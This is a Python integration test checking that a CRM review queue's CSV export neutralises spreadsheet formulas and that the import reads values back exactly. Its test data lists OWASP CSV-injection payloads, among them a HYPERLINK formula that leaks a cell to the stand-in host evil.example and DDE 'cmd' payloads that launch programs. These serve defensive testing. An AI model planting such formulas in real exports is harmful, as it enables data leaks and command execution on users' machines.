"""The review queue's CSV in a spreadsheet (issue 26, part 6): no cell runs as a formula, and the
import reads back exactly what the export wrote."""

from __future__ import annotations

import csv
import io
import json

import pytest

from crm_reconciliation.config.registry import default_registry
from crm_reconciliation.hooks.warehouse import WarehouseSession
from crm_reconciliation.review import queue as review
from tests.helpers import create_staging, insert_rows

pytestmark = pytest.mark.integration

REGISTRY = default_registry()
# Legacy names as a hostile export could hold them (OWASP's CSV-injection cases), and a harmless one.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+33 4 76 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'just a quote",
    "Société Générale",
]


def test_exported_cells_never_start_a_formula_and_come_back_as_they_were(db):
    create_staging(db, REGISTRY.get("companies"))
    insert_rows(
        db,
        "staging.companies_reconciliation",
        [
            {
                "legacy_company_id": n,
                "hubspot_company_id": str(100 + n),
                "reconciliation_status": "probable",
                "match_confidence": 80,
                "legacy_properties": json.dumps({"name": name}),
            }
            for n, name in enumerate(HOSTILE, start=1)
        ],
    )
    session = WarehouseSession(db)  # the import's decisions are recorded all or none, in a savepoint
    exported = review.export_csv(session, REGISTRY, "companies")
    rows = list(csv.DictReader(io.StringIO(exported)))
    labels = {int(row["legacy_id"]): row["label"] for row in rows}
    for n, name in enumerate(HOSTILE, start=1):
        cell = labels[n]
        assert not cell.startswith(review.FORMULA_START), cell  # what a spreadsheet would run
        assert review.from_spreadsheet(cell) == name  # and the way back is exact
    assert labels[10] == "Société Générale"  # a harmless cell is left alone
    assert labels[9] == "'just a quote"

    # A reviewer's comments are read back through the same rule: what the export would have
    # written for them is recorded as the comment itself.
    lines = exported.splitlines()
    header, first, second = lines[0], lines[1], lines[2]
    filled = [
        header,
        first.rstrip(",") + ",leave_aside," + review.spreadsheet_safe("=looks like a formula"),
        second.rstrip(",") + ",leave_aside,'just a quote",
    ]
    assert review.import_csv(session, REGISTRY, "companies", "\n".join(filled) + "\n", "dana")["recorded"] == 2
    comments = [row[0] for row in db.execute("select comment from staging.review_decisions order by legacy_id")]
    assert comments == ["=looks like a formula", "'just a quote"]
